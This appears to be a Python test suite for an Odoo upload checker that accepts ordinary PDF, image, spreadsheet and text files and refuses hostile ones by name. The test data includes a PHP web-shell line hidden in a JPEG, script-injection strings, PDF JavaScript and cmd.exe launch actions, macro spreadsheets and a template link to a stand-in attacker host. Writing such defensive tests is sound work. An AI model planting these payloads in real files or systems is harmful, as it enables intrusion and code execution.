"""Files from outside: good ones pass, and each known trick is refused by name."""

from hypothesis import given, settings
from hypothesis import strategies as st

from odoo.tests import BaseCase, tagged

from ..tools.file_check import KINDS, check
from . import files
from .common import a_pdf

MB = 1024 * 1024
JPEG = files.an_image("JPEG")
PNG = files.an_image()
PDF = a_pdf()


def problem(content, name, allowed=KINDS, most=20 * MB):
    return check(content, name, allowed, most).problem


@tagged("post_install", "-at_install")
class TestFileCheck(BaseCase):
    def test_good_files_are_what_they_are(self):
        for kind, name, content in (
            ("pdf", "Invoice 1.pdf", PDF),
            ("jpg", "scan.JPEG", JPEG),
            ("png", "scan.png", PNG),
            ("xlsx", "packing list v1.2.xlsx", files.an_xlsx()),
            ("txt", "note.txt", "Đèn 灯".encode()),
        ):
            with self.subTest(name):
                finding = check(content, name, KINDS, MB)
                self.assertEqual((finding.kind, finding.problem), (kind, ""))

    def test_hostile_files_are_refused_by_name(self):
        macro = files.TYPES.replace("sheet.main+xml", "sheet.macroEnabled.main+xml")
        template = (
            '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://evil.example/x.dotm"/>'
        )
        for expected, name, content in (
            ("empty", "a.pdf", b""),
            ("unknown", "a.pdf", b"MZ\x90\x00" + bytes(100)),
            ("unknown", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)),
            ("archive", "a.pdf", files.a_zip()),
            ("archive", "a.zip", files.a_zip()),
            ("archive", "a.gz", b"\x1f\x8b\x08" + bytes(50)),
            ("archive", "a.rar", b"Rar!\x1a\x07\x00"),
            ("archive", "a.7z", b"7z\xbc\xaf\x27\x1c"),
            ("mismatch", "a.png", PDF),
            ("mismatch", "a.txt", PDF),
            ("mismatch", "no extension", PDF),
            ("name", "invoice.exe.pdf", PDF),
            ("name", "invoice.pdf.exe", PDF),
            ("name", "list.xlsm", files.an_xlsx()),
            ("polyglot", "a.pdf", PDF + files.a_zip()),
            ("polyglot", "a.png", PNG + files.a_zip()),
            ("polyglot", "a.jpg", JPEG + b"<?php system($_GET[0]); ?>"),
            ("polyglot", "a.pdf", b"%PDF-1.4\n<script>alert(1)</script>\n%%EOF"),
            ("broken", "a.pdf", PDF[:-20]),
            ("broken", "a.png", PNG[:30] + PNG[40:]),
            ("bomb", "a.png", files.a_png_bomb()),
            ("active", "a.pdf", files.a_raw_pdf(b"<< /S /JavaScript /JS (x) >>")),
            ("active", "a.pdf", files.a_raw_pdf(b"<< /S /J#61vaScript >>")),
            ("active", "a.pdf", files.a_raw_pdf(b"<< /S /Launch /F (cmd.exe) >>")),
            ("active", "a.pdf", files.a_raw_pdf(b"<< /Names /EmbeddedFiles >>")),
            ("active", "a.pdf", files.a_raw_pdf(b"<< /XFA 12 0 R >>")),
            ("active", "a.pdf", files.a_pdf_with_objects(b"<< /S /JavaScript >>")),
            ("encrypted", "a.pdf", files.a_raw_pdf(trailer=b"/Encrypt 5 0 R")),
            ("macro", "a.xlsx", files.an_xlsx(types=macro)),
            ("macro", "a.xlsx", files.an_xlsx(xl__vbaProject_dot_bin=b"x")),
            ("macro", "a.xlsx", files.an_xlsx(xl__embeddings__o_dot_bin=b"x")),
            (
                "active",
                "a.xlsx",
                files.an_xlsx(word___rels__s_dot_xml_dot_rels=template),
            ),
            ("polyglot", "a.xlsx", b"PK" + files.an_xlsx()),
            ("active", "a.txt", b"<script>alert(1)</script>"),
        ):
            with self.subTest(f"{expected}: {name}: {content[:40]}"):
                self.assertEqual(problem(content, name), expected)

    def test_relations_are_read_as_their_reader_reads_them(self):
        start = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        part = '<R xmlns="r"><Relationship Type="%s" Target="http://x"/></R>'
        remote = part % f"{start}attachedTemplate"
        long = part.replace("<R ", "<!--" + " " * 5 * MB + "--><R ") % (
            f"{start}attachedTemplate"
        )
        name = "word___rels__s_dot_xml_dot_rels"
        for expected, parts in (
            ("active", {name: remote}),
            ("active", {name: remote.replace('"', "'")}),
            ("active", {name: remote.replace("Template", "&#84;emplate")}),
            ("active", {name: remote.encode("utf-16")}),
            ("active", {name.replace("rels", "RELS"): remote}),
            ("active", {name: part % f"{start}externalLinkPath"}),
            ("macro", {name: part % "urn:microsoft/relationships/vbaProject"}),
            ("bomb", {name: long}),
            ("broken", {name: '<!DOCTYPE R [<!ENTITY t "x">]>' + remote}),
            ("broken", {name: "<R>"}),
            ("", {name: part % f"{start}hyperlink"}),
        ):
            with self.subTest(expected, parts=str(parts)[:80]):
                self.assertEqual(problem(files.an_xlsx(**parts), "a.xlsx"), expected)

    def test_objects_without_their_type_are_looked_through(self):
        """A reader that follows the cross-references does not ask for the type."""
        hidden = files.a_pdf_with_objects(b"5 0 << /S /JavaScript /JS (x) >>")
        for content in (
            hidden.replace(b"/Type /ObjStm ", b""),
            hidden.replace(b"/Type /ObjStm", b"/Type 7 0 R"),
        ):
            self.assertEqual(problem(content, "a.pdf"), "active")

    def test_zip_bomb_is_not_unpacked(self):
        bomb = files.a_bomb()
        self.assertLess(len(bomb), MB)
        self.assertEqual(problem(bomb, "a.xlsx"), "bomb")

    def test_lying_entry_of_a_zip_is_broken(self):
        content = files.an_xlsx()
        # The directory says that the part is larger than it is.
        at = content.rindex(b"PK\x01\x02") - 60
        self.assertIn(problem(content[:at], "a.xlsx"), ("archive", "broken"))

    def test_size_and_kind_are_the_slots(self):
        self.assertEqual(problem(PDF, "a.pdf", most=10), "size")
        self.assertEqual(problem(PDF, "a.pdf", ["jpg"]), "kind")

    @settings(max_examples=150, deadline=None)
    @given(
        st.sampled_from(
            [b"", b"%PDF-", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"]
        ),
        st.binary(max_size=300),
        st.text(max_size=20),
    )
    def test_no_bytes_break_it(self, start, rest, name):
        finding = check(start + rest, name, KINDS, MB)
        self.assertTrue(finding.problem or finding.kind == "txt" or finding.kind)

    @settings(max_examples=100, deadline=None)
    @given(st.integers(0, len(PDF) - 1), st.integers(0, 255))
    def test_a_changed_byte_never_breaks_it(self, at, byte):
        for content in (PDF, PNG, files.an_xlsx()):
            changed = bytearray(content)
            changed[at % len(content)] = byte
            check(bytes(changed), "a.pdf", KINDS, MB)
